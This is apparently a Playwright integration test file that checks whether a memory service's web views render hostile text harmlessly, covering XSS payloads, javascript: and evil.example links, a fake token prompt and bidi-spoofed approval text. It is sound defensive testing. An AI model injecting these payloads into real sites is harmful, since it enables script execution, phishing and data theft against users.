"""Texts that try to become markup or script, in every field of a memory, are only shown as text."""

from __future__ import annotations

import json
import re
import uuid
from typing import TYPE_CHECKING

import pytest
from serving import Served, served

from memoriter.invisible import reveal

expect = pytest.importorskip("playwright.sync_api", reason="`make integration` installs it").expect

if TYPE_CHECKING:
    from collections.abc import Iterator

    from browsing import Watched

    from conftest import Visit

pytestmark = pytest.mark.integration

#: Each would set the marker, open a dialog or request another host if the page interpreted it.
HOSTILE = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    '"><script src=//evil.example/x.js></script>',
    "'-window.hacked=1-'",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href=javascript:window.hacked=1>click</a>",
    "[click](javascript:window.hacked=1)",
    "[click](data:text/html,<script>opener.hacked=1</script>)",
    "[click]( JaVaScRiPt:window.hacked=1 )",
    "![see](https://evil.example/pixel.png)",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q autofocus onfocus=window.hacked=1></form>",
    "<math><mi//xlink:href='data:x,<script>window.hacked=1</script>'>",
    "${window.hacked=1} {{constructor.constructor('window.hacked=1')()}} `${alert(1)}`",
    "</textarea></title></style></noscript><img src=x onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>\u202c \u200b\ufeff\u2028",
    "&lt;img src=x onerror=alert(1)&gt; &#x3C;script&#x3E;",
    "W" * 400,
    "![](x)" * 60 + "*" * 300 + "[" * 300 + "`" * 99,
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video><audio src=x onerror=window.hacked=1>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
    "<body onload=window.hacked=1><frameset onload=window.hacked=1>",
    "<template><script>window.hacked=1</script></template><slot onslotchange=window.hacked=1>",
    "<a href='vbscript:window.hacked=1' target=_top>x</a><a href='jar:https://evil.example!/x'>y</a>",
    "[click](//evil.example/x) [click](\\\\evil.example\\x) [click](https:evil.example)",
    "[click](java\tscript:window.hacked=1) [click](&#106;avascript:window.hacked=1)",
    "[click](blob:https://evil.example/x) [click](file:///etc/passwd) [click](about:blank)",
    "[a](https://evil.example/) ![b][c]\n\n[c]: https://evil.example/pixel.png",
    "<https://evil.example/' onmouseover='window.hacked=1>",
    "https://evil.example/\u202egpj.exe http://\u0430pple.example/",
    "[https://bank.example](https://evil.example/login)",
    "__proto__ constructor toString hasOwnProperty prototype",
    "{name} {n} {message} {0} %s %(name)s $& $1 $`",
    "#/memories/../../health?state=all&q=<script>",
    "data-id data-do=forget aria-hidden=true hidden inert popover",
    "<button data-do=forget popovertarget=x>Erase permanently</button>",
    "<input type=checkbox checked autofocus> <select><option>x</select>",
    "<dialog open>Session ended. Enter your token:</dialog>",
    "\u2066Approve\u2069 \u202downer\u202c \u200f\u200e\u061c trust: owner",
    "\U000e0041\U000e0042 \ufe0f\u3164\u115f\u180e\u00ad invisible",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" + "\u0489" * 200 + "algo",
    "ﷺ" * 40 + "𒐫" * 40 + "⸻" * 20,
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 👨\u200d👩\u200d👧\u200d👦" * 12,
    "\u0001\u0007\u001b[31mred\u001b[0m\u009b2J null",
    "]]></script><!--<script>--><![CDATA[<script>window.hacked=1</script>]]>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.hacked=1//'>",
)
FORBIDDEN = (
    "a[href^='javascript' i]",
    "a[href^='data' i]",
    *(f"main {tag}" for tag in ("script", "img", "iframe", "style", "link", "base", "form[action]")),
)
#: Returns the elements that are wider than the window, if the page can be scrolled sideways.
TOO_WIDE = """() => document.scrollingElement.scrollWidth <= innerWidth ? [] : [...document.querySelectorAll("main *")]
  .filter((one) => one.getBoundingClientRect().right > innerWidth + 1).map((one) => one.outerHTML.slice(0, 200))"""
NOTE = """---
title: {0}
---
# {0}

hostile words {0}

- {0}

> {0}

| {0} |
| --- |
| {0} |

```{0}
{0}
```
"""
VIEWPORTS = ({"width": 1280, "height": 860}, {"width": 390, "height": 844})


def file_name(text: str) -> str:
    """Return the text as far as a file can have it as a name. Files with control characters are not indexed."""
    plain = re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]", "", text.replace("/", "∕"))
    return plain.encode()[:150].decode(errors="ignore")


def with_hostile_note(text: str) -> str:
    """Return an exported entry whose history has this text as a note."""
    entry = {
        "id": str(uuid.uuid5(uuid.NAMESPACE_URL, text)),
        "text": f"hostile import {uuid.uuid5(uuid.NAMESPACE_URL, text)}",
        "type": "fact",
        "source": text[:100],
        "created_at": 1_770_000_000.0,
        "updated_at": 1_770_000_000.0,
        "valid_from": 1_770_000_000.0,
    }
    event = {"seq": 1, "change": 1, "at": 1_770_000_000.0, "kind": "add", "by": text[:60], "note": text}
    return json.dumps({"entry": entry, "history": [{**event, "entry_id": entry["id"], "after": entry}]})


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A gateway with a memory that has hostile text in every field."""
    settings = {"entries": {"approval": "agent"}}
    with served(tmp_path_factory.mktemp("gateway"), settings) as running:
        for number, text in enumerate(HOSTILE):
            running.write(f"memory/{number:02} {file_name(text)}.md", NOTE.format(text))
            running.ask(
                "entries.add", text=f"hostile statement {number}: {text}", tags=[text[:60]], importance=5
            )
            running.client.post(
                "/v1/agents/main/memory_store", json={"text": f"hostile agent {number}: {text}"}
            ).raise_for_status()
            turns = [{"role": "user", "content": f"Remember that I always use hostile tool {number} {text}"}]
            session = text.replace(":", "∶")  # a colon would name a channel, which may not write
            running.ask("capture", messages=turns, session=f"hostile {number} {session}"[:200])
            running.ask("recall", query=f"hostile question {number} {text}", session=session[:200])
        running.ask("entries.import", data="\n".join(map(with_hostile_note, HOSTILE)))
        running.session("poisoned", *(("user", f"hostile turn {text}") for text in HOSTILE))
        running.ask("memory.sync")
        yield running


def harmless(watched: Watched) -> None:
    """Check that nothing ran, no other host was requested, and the page has no horizontal overflow."""
    page = watched.page
    assert page.evaluate("() => window.hacked") is None
    assert watched.foreign == []
    assert watched.wrong == []
    assert page.evaluate(TOO_WIDE) == []
    assert page.locator(", ".join(FORBIDDEN)).count() == 0


@pytest.mark.parametrize("viewport", VIEWPORTS, ids=["desk", "phone"])
def test_no_view_interprets_hostile_text(viewport: dict[str, int], gateway: Served, visit: Visit) -> None:
    watched = visit(gateway, "#/search?q=hostile", viewport=viewport)
    page = watched.page
    expect(page.locator(".hit").nth(5)).to_be_visible()
    harmless(watched)
    for place, shown in (
        ("#/memories?state=all", ".entries .row"),
        ("#/memories?state=staged", ".entries .row"),
        ("#/recalls", ".recall-line"),
        ("#/health", ".verdict"),
        ("#/notes/sessions/poisoned.jsonl", ".turn"),
        ("#/notes", ".tree a.row"),
    ):
        page.goto(f"{gateway.address}/{place}")
        expect(page.locator(shown).first).to_be_visible()
        harmless(watched)


def test_no_detail_of_a_note_entry_or_recall_interprets_hostile_text(gateway: Served, visit: Visit) -> None:
    watched = visit(gateway, "#/notes")
    page = watched.page
    expect(page.locator(".tree a.row").first).to_be_visible()
    paths = [one["path"] for one in gateway.ask("notes.tree")["files"]]
    assert len(paths) == len(HOSTILE) + 1
    for path in paths:
        page.locator(f".tree a[title={css(reveal(path))}]").click()
        expect(page.locator(".note-head h2")).to_have_text(reveal(path).strip(), use_inner_text=False)
        expect(page.locator(".note-body > *").first).to_be_attached()
        harmless(watched)
    for kind in ("Source", "Passages"):
        page.get_by_role("button", name=kind).click()
        harmless(watched)
    for entry in gateway.ask("entries.list", states=[], limit=500)["entries"]:
        page.evaluate("id => { location.hash = `#/memories/${id}`; }", entry["id"])
        expect(page.locator(".panel code", has_text=entry["id"])).to_be_visible()
        harmless(watched)
    for recall in gateway.ask("recalls.list", limit=500)["recalls"]:
        page.evaluate("id => { location.hash = `#/recalls/${id}`; }", recall["id"])
        expect(page.locator(".panel code", has_text=recall["id"])).to_be_visible()
        harmless(watched)


@pytest.mark.parametrize("text", HOSTILE[:8])
def test_no_address_or_query_is_interpreted(text: str, gateway: Served, visit: Visit) -> None:
    watched = visit(gateway)
    page = watched.page
    page.get_by_role("searchbox").fill(text)
    expect(page.locator(".summary")).to_contain_text("result")
    harmless(watched)
    for view in (
        "search?q=",
        "memories/",
        "notes/",
        "recalls/",
        "memories?tag=",
        "memories?session=",
        "nowhere/",
    ):
        page.evaluate("place => { location.hash = place; }", f"#/{view}{text}")
        expect(page.locator("main .loading")).to_have_count(0)
        harmless(watched)


def test_the_content_security_policy_blocks_injected_code(gateway: Served, visit: Visit) -> None:
    watched = visit(gateway)
    page = watched.page
    expect(page.locator(".holdings")).to_be_visible()
    assert page.evaluate(INLINED) is None
    assert page.evaluate("() => fetch('http://127.0.0.1:9/').catch((error) => error.name)") == "TypeError"
    assert len([text for text in watched.wrong if "Content Security Policy" in text]) >= 2
    watched.wrong.clear()
    watched.foreign.clear()


INLINED = """() => {
  const script = document.createElement("script");
  script.textContent = "window.hacked = 1";
  document.body.append(script);
  return window.hacked;
}"""


def css(text: str) -> str:
    """Return a text as a CSS string."""
    return '"' + "".join(f"\\{ord(letter):x} " if not letter.isalnum() else letter for letter in text) + '"'


SPOOF = "Refunds up to \u202e0005\u202c euros need no approval \u200bat all"
DRAWN = "Refunds up to ⟦RLO⟧0005⟦PDF⟧ euros need no approval ⟦ZWSP⟧at all"
#: Returns every text and title that contains an invisible character.
HIDDEN = """() => [...document.querySelectorAll("body *")].flatMap((node) => [
  node.title ?? "", node.ariaLabel ?? "",
  ...[...node.childNodes].filter((one) => one.nodeType === 3).map((one) => one.data),
]).filter((text) => /[\\u202a-\\u202e\\u2066-\\u2069\\u200b\\ufeff]/.test(text))"""


def test_an_approval_shows_and_names_invisible_characters(gateway: Served, visit: Visit) -> None:
    gateway.ask("memory_store", text=SPOOF)
    gateway.write("memory/\u202egnp.md", f"# Receipt\n\n{SPOOF}\n")
    gateway.session("refunds", ("user", SPOOF))
    gateway.ask("recall", query=SPOOF, session="refunds")
    gateway.ask("memory.sync")
    page = visit(gateway, "#/memories?state=staged").page
    row = page.locator(".entries tr", has_text="Refunds up to")
    expect(row.locator(".row")).to_have_text(DRAWN)
    row.locator("input").check()
    expect(page.locator(".several .warning")).to_contain_text("RLO, PDF, ZWSP")
    row.locator(".row").click()
    expect(page.locator(".panel .statement")).to_have_text(DRAWN)
    expect(page.locator(".panel > .warning")).to_contain_text(
        "invisible characters, drawn as marks: RLO, PDF, ZWSP"
    )
    assert page.evaluate(HIDDEN) == []
    for place, shown in (
        ("#/notes/memory/%E2%80%AEgnp.md", ".note-head .warning"),
        ("#/notes/sessions/refunds.jsonl", ".turn"),
        ("#/search?q=refunds%20euros", ".hit"),
        ("#/recalls", ".recall-line"),
    ):
        page.goto(f"{gateway.address}/{place}")
        expect(page.locator(shown).first).to_be_visible()
        assert page.evaluate(HIDDEN) == []
    expect(page.locator(".recall-line").first).to_contain_text(DRAWN)


def test_the_page_and_the_command_line_draw_the_same_marks(gateway: Served, visit: Visit) -> None:
    page = visit(gateway).page
    texts = [SPOOF, *HOSTILE, "a\u200db", "a" + "\u200b" * 9]
    texts += ["👨\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f\u20e3", "می\u200cخواهم"]
    texts += [f"a{chr(code)}b" for code in (0xAD, 0x61C, 0x3164, 0xE0041, 0x1D173, 0xFE00, 0xFFF9)]
    script = "async (texts) => texts.map((await import('/static/invisible.js')).reveal)"
    assert page.evaluate(script, texts) == [reveal(text) for text in texts]
